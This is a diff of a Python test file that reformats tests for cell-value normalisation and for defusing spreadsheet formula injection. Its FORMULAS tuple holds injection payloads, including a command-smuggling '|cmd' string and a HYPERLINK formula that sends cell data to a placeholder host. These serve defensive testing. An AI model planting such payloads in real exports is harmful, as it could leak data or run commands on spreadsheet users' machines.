@@ -155,13 +155,8 @@ def test_classes_that_say_the_same_are_refused(classes):
 
 def test_words_are_those_of_the_pool():
     read = PublicWords.of(["north", "Zürich", "2.0", "2.0", "2", None])
-    assert [read(cell) for cell in (" north ", "Zu\u0308rich", 2, "North", 3.0)] == [
-        "north",
-        "Zürich",
-        "2.0",
-        "North",
-        "3",
-    ]
+    cells = [read(cell) for cell in (" north ", "Zu\u0308rich", 2, "North", 3.0)]
+    assert cells == ["north", "Zürich", "2.0", "North", "3"]
     assert [PublicWords.of(["True", "False"])(cell) for cell in (True, "false", 0)] == ["True", "False", "False"]
 
 
@@ -317,19 +312,8 @@ def test_times_of_numpy_are_times_and_not_counts():
 
 DANGEROUS = tuple("=+-@\t\r\n")
 FORMULAS = (
-    "=1+1",
-    "+1+1",
-    "-1+1|cmd",
-    "@SUM(A1)",
-    "\t=1",
-    "\r=1",
-    '=HYPERLINK("http://x?"&A1)',
-    "=",
-    "+",
-    "-",
-    "@",
-    "'=1",
-)
+    "=1+1", "+1+1", "-1+1|cmd", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x?"&A1)', "=", "+", "-", "@", "'=1",
+)  # fmt: skip
 
 texts = st.text(st.sampled_from("=+-@'\t\r\n1.e a,\""), max_size=8)
 
